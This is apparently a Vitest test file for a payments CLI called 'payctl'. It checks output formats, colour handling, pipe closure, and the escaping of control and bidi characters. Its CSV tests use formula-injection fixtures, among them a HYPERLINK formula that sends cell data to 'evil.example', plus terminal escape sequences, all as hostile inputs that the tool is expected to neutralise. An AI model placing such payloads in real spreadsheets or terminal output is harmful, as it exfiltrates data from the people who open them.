import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { runCliInTerminal, tempConfigDir } from '../helpers/cli.js';
import { needsTools } from '../helpers/tools.js';
import { runInProcess } from '../helpers/in-process.js';
import { startFakeApi, sendJson, type FakeApi } from '../helpers/fake-api.js';

const BALANCE = { disponiblePixBalance: 1234.56, disponibleCardBalance: 10, disponibleBilletBalance: 0, withdrawalsInProcessingBalance: 0.5 };
const ESC = '\u001b[';

let api: FakeApi;
let env: Record<string, string>;

beforeAll(async () => {
  api = await startFakeApi((request, response) => {
    if (request.url === '/withdrawals/balance') sendJson(response, 200, { data: BALANCE, message: 'ok' });
    else sendJson(response, 404, { data: { message: 'not found', returnCode: -1404 } });
  });
  env = { PAYCTL_CONFIG_DIR: tempConfigDir(), PAYCTL_BASE_URL: api.url, PAYCTL_TOKEN: 'output-test-token' };
});
afterAll(() => api.close());

describe.concurrent('output formats of a single resource', () => {
  it('writes field<TAB>value lines with raw values when stdout is a pipe', async () => {
    const result = await runInProcess(['balance'], { env });
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(
      'disponiblePixBalance\t1234.56\ndisponibleCardBalance\t10\ndisponibleBilletBalance\t0\nwithdrawalsInProcessingBalance\t0.5\n',
    );
  });

  needsTools('script')('writes an aligned table with money as BRL when stdout is a terminal, and says which account', async () => {
    const result = await runCliInTerminal(['balance'], { env });
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/pix available\S*\s+R\$ 1\.234,56/);
    expect(result.stdout).toMatch(/in processing\S*\s+R\$ 0,50/);
    expect(result.stderr).toContain('balance of the main account');
  });

  it('writes the API data object as JSON with --json and -o json', async () => {
    for (const args of [['--json'], ['-o', 'json'], ['--output=json']]) {
      const result = await runInProcess(['balance', ...args], { env });
      expect(JSON.parse(result.stdout)).toEqual(BALANCE);
    }
  });

  it('writes one compact line with -o ndjson', async () => {
    const result = await runInProcess(['balance', '-o', 'ndjson'], { env });
    expect(result.stdout.trimEnd().split('\n')).toHaveLength(1);
    expect(JSON.parse(result.stdout)).toEqual(BALANCE);
  });

  it('writes a header row and a row with -o csv', async () => {
    const result = await runInProcess(['balance', '-o', 'csv'], { env });
    expect(result.stdout).toBe(
      'disponiblePixBalance,disponibleCardBalance,disponibleBilletBalance,withdrawalsInProcessingBalance\n1234.56,10,0,0.5\n',
    );
  });

  it('writes a table on request even into a pipe, without colour', async () => {
    const result = await runInProcess(['balance', '-o', 'table'], { env });
    expect(result.stdout).toContain('R$ 1.234,56');
    expect(result.stdout).not.toContain(ESC);
  });
});

describe.concurrent('--fields', () => {
  it('picks and orders fields in every format', async () => {
    const fields = ['--fields', 'withdrawalsInProcessingBalance,disponiblePixBalance'];
    const json = await runInProcess(['balance', ...fields, '--json'], { env });
    expect(Object.keys(JSON.parse(json.stdout))).toEqual(['withdrawalsInProcessingBalance', 'disponiblePixBalance']);
    const tsv = await runInProcess(['balance', ...fields], { env });
    expect(tsv.stdout).toBe('withdrawalsInProcessingBalance\t0.5\ndisponiblePixBalance\t1234.56\n');
    const csv = await runInProcess(['balance', ...fields, '-o', 'csv'], { env });
    expect(csv.stdout).toBe('withdrawalsInProcessingBalance,disponiblePixBalance\n0.5,1234.56\n');
  });

  it('refuses an unknown field with exit 2, lists the valid ones and sends nothing', async () => {
    const silent = await startFakeApi();
    try {
      const result = await runInProcess(['balance', '--fields', 'disponiblePixBalance,bogus'], { env: { ...env, PAYCTL_BASE_URL: silent.url } });
      expect(result.code).toBe(2);
      expect(result.stderr).toContain('unknown field bogus');
      expect(result.stderr).toContain('valid fields: disponiblePixBalance, disponibleCardBalance');
      expect(result.stdout).toBe('');
      expect(silent.requests).toEqual([]);
    } finally {
      await silent.close();
    }
  });
});

describe.concurrent('colour', () => {
  const colourless = [
    ['NO_COLOR', { NO_COLOR: '1' }, []],
    ['--no-color', {}, ['--no-color']],
    ['TERM=dumb', { TERM: 'dumb' }, []],
  ] as const;

  needsTools('script')('colours table headers at a terminal', async () => {
    const result = await runCliInTerminal(['balance'], { env });
    expect(result.stdout).toContain(ESC);
  });

  for (const [name, extraEnv, flags] of colourless) {
    needsTools('script')(`writes no colour codes with ${name}`, async () => {
      const result = await runCliInTerminal(['balance', ...flags], { env: { ...env, ...extraEnv } });
      expect(result.code).toBe(0);
      expect(result.stdout).toContain('R$ 1.234,56');
      expect(result.stdout).not.toContain(ESC);
    });
  }

  it('forces colour into a pipe with FORCE_COLOR', async () => {
    const result = await runInProcess(['balance', '-o', 'table'], { env: { ...env, FORCE_COLOR: '1' } });
    expect(result.stdout).toContain(ESC);
  });
});

describe.concurrent('lists', () => {
  needsTools('script')('writes one line per profile with tab-separated values into a pipe, and a table with a header at a terminal', async () => {
    const configEnv = { PAYCTL_CONFIG_DIR: tempConfigDir() };
    expect((await runInProcess(['profiles', 'add', 'prod', '--base-url', 'https://api.example.com'], { env: configEnv })).code).toBe(0);
    const piped = await runInProcess(['profiles', 'list'], { env: configEnv });
    expect(piped.stdout.trimEnd().split('\n').map((line) => line.split('\t')[0])).toEqual(['default', 'prod']);
    const terminal = await runCliInTerminal(['profiles', 'list', '--no-color'], { env: configEnv });
    expect(terminal.stdout.split('\n')[0]).toMatch(/^NAME\s+CURRENT\s+ENV\s+BASE URL/);
    const json = JSON.parse((await runInProcess(['profiles', 'list', '--json'], { env: configEnv })).stdout);
    expect(json.map((p: { name: string; env: string }) => [p.name, p.env])).toEqual([['default', 'local'], ['prod', 'production']]);
    const ndjson = (await runInProcess(['profiles', 'list', '-o', 'ndjson', '--fields', 'name'], { env: configEnv })).stdout;
    expect(ndjson).toBe('{"name":"default"}\n{"name":"prod"}\n');
    const csv = (await runInProcess(['profiles', 'list', '-o', 'csv', '--fields', 'name,env'], { env: configEnv })).stdout;
    expect(csv).toBe('name,env\ndefault,local\nprod,production\n');
  });
});

describe('a reader that stops early', () => {
  // Every page of a list, a search and --paginate, in a format whose notes reach stderr at once (tsv) and one that holds them (json).
  it.each([
    ['customers', 'list', '--all', '-o', 'ndjson'],
    ['customers', 'list', '--all', '-o', 'tsv'],
    ['customers', 'find', '--name', 'a', '-o', 'tsv'],
    ['api', 'GET', '/customers', '--paginate', '--json'],
  ])('ends payctl quietly with exit 0 when the pipe closes (payctl %s %s %s %s %s | head)', async (...argv) => {
    const { startSandboxSession } = await import('../helpers/sandbox.js');
    const session = await startSandboxSession('acme', { customers: 3000 });
    try {
      const { spawn } = await import('node:child_process');
      const { BIN, cleanEnv } = await import('../helpers/cli.js');
      const child = spawn(process.execPath, [BIN, ...argv], {
        env: cleanEnv(session.env),
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let stderr = '';
      child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
      child.stdout.once('data', () => child.stdout.destroy());
      const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
      expect(code).toBe(0);
      expect(stderr).toBe('');
    } finally {
      await session.close();
    }
  });

  it('reports a failed write (a full disk) as an error, not a bug', async () => {
    const { spawn } = await import('node:child_process');
    const { BIN, cleanEnv } = await import('../helpers/cli.js');
    const { openSync } = await import('node:fs');
    const full = openSync('/dev/full', 'w');
    const child = spawn(process.execPath, [BIN, 'profiles', 'list'], {
      env: cleanEnv({ PAYCTL_CONFIG_DIR: tempConfigDir() }),
      stdio: ['ignore', full, 'pipe'],
    });
    let stderr = '';
    child.stderr!.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    expect(code).toBe(1);
    expect(stderr).toMatch(/^error: cannot write to stdout: ENOSPC/);
    expect(stderr).not.toContain('bug');
  });
});

describe('text from the API made visible (unit)', async () => {
  const { visible, visibleLines, jsonText } = await import('../../src/output/sanitize.js');

  it('writes C0, DEL, C1 and bidi characters as escapes, and leaves printable text alone', () => {
    expect(visible('\x1b[2A\x1b]8;;http://x\x07a\x1b]8;;\x07')).toBe(String.raw`\x1b[2A\x1b]8;;http://x\x07a\x1b]8;;\x07`);
    expect(visible('a\nb\tc\rd\x00\x7f\x85\x9b')).toBe(String.raw`a\nb\tc\rd\x00\x7f\x85\x9b`);
    expect(visible('\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029')).toBe(
      String.raw`\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029`,
    );
    for (const text of ['João Ação 😀 R$ 1.234,56', 'C:\\path', '名前', '']) expect(visible(text)).toBe(text);
  });

  it('writes what draws nothing or another width than counted as escapes (fillers, zero-width, soft hyphen, no-break spaces, lone selectors, tags), and keeps emoji sequences whole', () => {
    expect(visible('a\u3164\u115f\u1160\uffa0b')).toBe(String.raw`a\u3164\u115f\u1160\uffa0b`);
    expect(visible('\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u00a0\u202f\u2007')).toBe(String.raw`\u200b\u200c\u200d\u2060\ufeff\xad\u180e\xa0\u202f\u2007`);
    expect(visible('x\ufe0f y\u{e0041}\u{e007f}')).toBe(String.raw`x\ufe0f y\u{e0041}\u{e007f}`);
    for (const text of ['👨\u200d👩\u200d👧', '❤\ufe0f', '#\ufe0f\u20e3', '🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}', '👍🏽']) expect(visible(text)).toBe(text);
  });

  it('keeps the newlines of text that is payctl’s own', () => {
    expect(visibleLines('one\x1b[31m\ntwo\u202e')).toBe(String.raw`one\x1b[31m` + '\n' + String.raw`two\u202e`);
  });

  it('writes JSON whose value is unchanged but holds no raw DEL, C1 or bidi character', () => {
    const value = { ['k\u202e']: 'a\x1b\x7f\x9b\u2066\u2028b', n: -1.5 };
    const text = jsonText(value, 2);
    expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
    expect(JSON.parse(text)).toEqual(value);
  });
});

describe.concurrent('csv for spreadsheets', async () => {
  const { parse } = await import('csv-parse/sync');
  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '-cmd', '@SUM(1)', '\t=1+1', '\r=1+1', '=1;2', '+55 11 91234-5678', '\uff1dcmd'];
  const SAFE = ['Ana', "O'Neil", 'a=b', 'R$ 12,34', 'two\nlines', 'semi;colon', 'com,ma', 'quo"te', '  padded  ', '1-2'];
  const customer = (firstName: string, index: number) => ({
    id: `00000000-0000-4000-8000-${String(index).padStart(12, '0')}`,
    firstName,
    lastName: 'Souza',
    email: 'ana@example.com',
    phoneNumber: '+5511912345678',
    document: '52998224725',
    birthdate: '1990-05-17',
    address: {
      statusId: 'APPROVED',
      zipcode: 1310100,
      street: 'Av. Paulista',
      streetNumber: -12.5,
      complement: '',
      reference: '',
      neighborhood: 'Bela Vista',
      city: 'São Paulo',
      state: 'SP',
    },
    statusId: 'APPROVED',
    createdAt: '2024-01-01T00:00:00.000Z',
  });
  const customers = [...FORMULAS, ...SAFE].map(customer);
  const withdrawal = {
    id: 'w-1',
    amount: -1250,
    liquidAmount: -12.5,
    status: 'FAILED',
    withdrawalPaymentType: 'PIX',
    pixKeyType: 'EMAIL',
    pixKey: '-a@example.com',
    bankAccountId: 7,
    postbackUrl: null,
    createdAt: '2024-01-01T00:00:00.000Z',
    updatedAt: '2024-01-01T00:00:00.000Z',
  };
  let server: FakeApi;
  let serverEnv: Record<string, string>;

  beforeAll(async () => {
    server = await startFakeApi((request, response) => {
      if (request.url.startsWith('/customers?'))
        sendJson(response, 200, { data: customers, meta: { total: customers.length, page: 1, limit: 100, totalPages: 1 }, message: 'ok' });
      else if (request.url.startsWith('/withdrawals?')) sendJson(response, 200, { data: [withdrawal], meta: { total: 1 }, message: 'ok' });
      else sendJson(response, 404, { data: { message: 'not found', returnCode: -1404 } });
    });
    serverEnv = { PAYCTL_CONFIG_DIR: tempConfigDir(), PAYCTL_BASE_URL: server.url, PAYCTL_TOKEN: 'output-test-token' };
  });
  afterAll(() => server.close());

  const csvRows = async (args: string[], delimiter = ',', env = serverEnv) => {
    const result = await runInProcess(['customers', 'list', '--limit', '100', '-o', 'csv', ...args], { env });
    expect(result.code, result.stderr).toBe(0);
    // As a spreadsheet reads it: a BOM (which ; brings) is no part of the first cell.
    return parse(result.stdout, { delimiter, relax_quotes: false, bom: true }) as string[][];
  };

  it('writes a text cell a spreadsheet would run as a formula with a leading quote, and other text as it is', async () => {
    const rows = await csvRows(['--fields', 'firstName,lastName']);
    expect(rows[0]).toEqual(['firstName', 'lastName']);
    expect(rows.slice(1).map((row) => row[0])).toEqual([...FORMULAS.map((name) => `'${name}`), ...SAFE]);
    expect(rows.slice(1).map((row) => row[1])).toEqual(Array(FORMULAS.length + SAFE.length).fill('Souza'));
  });

  it('leaves numbers alone, negative ones too, while text starting with - is escaped', async () => {
    const result = await runInProcess(['withdrawals', 'list', '-o', 'csv', '--fields', 'amount,liquidAmount,pixKey,bankAccountId,postbackUrl'], {
      env: serverEnv,
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toBe("amount,liquidAmount,pixKey,bankAccountId,postbackUrl\n-1250,-12.5,'-a@example.com,7,\n");
    const rows = await csvRows(['--fields', 'address.streetNumber,address.zipcode']);
    expect(new Set(rows.slice(1).map((row) => row.join('|')))).toEqual(new Set(['-12.5|1310100']));
  });

  it("--csv-separator ';' writes the same rows, read back by a CSV parser with that delimiter", async () => {
    const fields = ['--fields', 'id,firstName,lastName,address.city,address.streetNumber'];
    const comma = await csvRows(fields);
    const semicolon = await csvRows([...fields, '--csv-separator', ';'], ';');
    expect(semicolon).toEqual(comma);
    expect(semicolon).toHaveLength(1 + customers.length);
    const tab = await csvRows([...fields, '--csv-separator', 'tab'], '\t');
    expect(tab).toEqual(comma);
    const pipe = await csvRows([...fields, '--csv-separator', '|'], '|');
    expect(pipe).toEqual(comma);
  });

  it("takes the profile's csvSeparator setting, which the flag overrides", async () => {
    const configDir = tempConfigDir();
    const env = { ...serverEnv, PAYCTL_CONFIG_DIR: configDir };
    expect((await runInProcess(['profiles', 'add', 'ptbr', '--base-url', server.url, '--env', 'local'], { env })).code).toBe(0);
    expect((await runInProcess(['profiles', 'use', 'ptbr'], { env })).code).toBe(0);
    const file = path.join(configDir, 'config.json');
    const config = JSON.parse(readFileSync(file, 'utf8'));
    config.profiles.ptbr.csvSeparator = ';';
    writeFileSync(file, JSON.stringify(config));
    const fields = ['--fields', 'firstName,lastName'];
    const fromProfile = await runInProcess(['customers', 'list', '-o', 'csv', ...fields], { env });
    // The profile's ; is for pt-BR spreadsheets as the flag's is: the file starts with a BOM.
    expect(fromProfile.stdout.split('\n')[0]).toBe('\uFEFFfirstName;lastName');
    expect(parse(fromProfile.stdout, { delimiter: ';', bom: true })).toEqual(await csvRows(fields));
    const fromFlag = await runInProcess(['customers', 'list', '-o', 'csv', '--csv-separator', ',', ...fields], { env });
    expect(fromFlag.stdout.split('\n')[0]).toBe('firstName,lastName');
  });

  it('refuses a separator that is not one of , ; | tab, naming the flag or the setting, exit 2 and nothing sent', async () => {
    const silent = await startFakeApi();
    try {
      const env = { ...serverEnv, PAYCTL_BASE_URL: silent.url };
      for (const bad of [';;', '', 'x', '.', '"', '\n']) {
        const result = await runInProcess(['customers', 'list', '-o', 'csv', '--csv-separator', bad], { env });
        expect(result.code, bad).toBe(2);
        expect(result.stderr).toMatch(/^error: --csv-separator is ".*", not a csv separator: use one of , ; \| or tab\n/);
        expect(result.stdout).toBe('');
      }
      const configDir = tempConfigDir();
      writeFileSync(
        path.join(configDir, 'config.json'),
        JSON.stringify({ currentProfile: 'odd', profiles: { odd: { baseUrl: silent.url, env: 'local', csvSeparator: 'semicolon' } } }),
      );
      const fromProfile = await runInProcess(['customers', 'list', '-o', 'csv'], { env: { ...env, PAYCTL_CONFIG_DIR: configDir } });
      expect(fromProfile.code).toBe(2);
      expect(fromProfile.stderr).toContain('error: the csvSeparator setting of profile "odd" is "semicolon", not a csv separator: use one of , ; | or tab\n');
      expect(fromProfile.stderr).toContain(`hint: fix it in ${path.join(configDir, 'config.json')}, or give --csv-separator`);
      expect(silent.requests).toEqual([]);
    } finally {
      await silent.close();
    }
  });

  needsTools('script')('at a terminal, csv cells show control characters as text', async () => {
    const hostile = await startFakeApi((_, response) =>
      sendJson(response, 200, { data: [customer('=\x1b]0;pwned\x07\u202eX', 1)], meta: { total: 1, page: 1, limit: 20, totalPages: 1 }, message: 'ok' }),
    );
    try {
      const result = await runCliInTerminal(['customers', 'list', '-o', 'csv', '--fields', 'firstName'], {
        env: { ...serverEnv, PAYCTL_BASE_URL: hostile.url },
      });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toBe(`firstName\n'=${String.raw`\x1b]0;pwned\x07\u202eX`}\n`);
    } finally {
      await hostile.close();
    }
  });
});

describe('tables count the width of what shows', () => {
  needsTools('tmux')('aligns the columns after a cell holding control characters, with colour on', async () => {
    const { runCliOnScreen } = await import('../helpers/screen.js');
    const names = ['Ana', 'B\x1b[31mred\x1b[0m\u202e\x9b', 'Carla Cristina'];
    const api = await startFakeApi((_, response) =>
      sendJson(response, 200, {
        data: names.map((firstName, i) => ({
          id: `00000000-0000-4000-8000-00000000000${i}`,
          firstName,
          lastName: `L${i}`,
          email: `p${i}@example.com`,
          phoneNumber: '+5511912345678',
          document: '52998224725',
          birthdate: '1990-05-17',
          address: null,
          statusId: i === 1 ? 'PENDING' : 'APPROVED',
          createdAt: '2024-01-01T00:00:00.000Z',
        })),
        meta: { total: 3, page: 1, limit: 20, totalPages: 1 },
        message: 'ok',
      }),
    );
    try {
      const run = await runCliOnScreen(['customers', 'list'], {
        env: { PAYCTL_CONFIG_DIR: tempConfigDir(), PAYCTL_BASE_URL: api.url, PAYCTL_TOKEN: 'output-test-token' },
        width: 200,
      });
      expect(run.code, run.screen).toBe(0);
      expect(run.bytes).toContain(ESC); // coloured: headers and statuses
      const rows = run.screen.split('\n').filter((line) => /^0{8}-/.test(line));
      expect(rows).toHaveLength(3);
      expect(rows[1]).toContain(String.raw`B\x1b[31mred\x1b[0m\u202e\x9b`);
      // The e-mail column follows the name (first and last) in which the control characters are.
      const emailColumns = rows.map((row, i) => row.indexOf(`p${i}@`));
      const statusColumns = rows.map((row) => row.search(/APPROVED|PENDING/));
      expect(emailColumns[0]).toBeGreaterThan(0);
      expect(new Set(emailColumns).size).toBe(1);
      expect(new Set(statusColumns).size).toBe(1);
    } finally {
      await api.close();
    }
  });
});
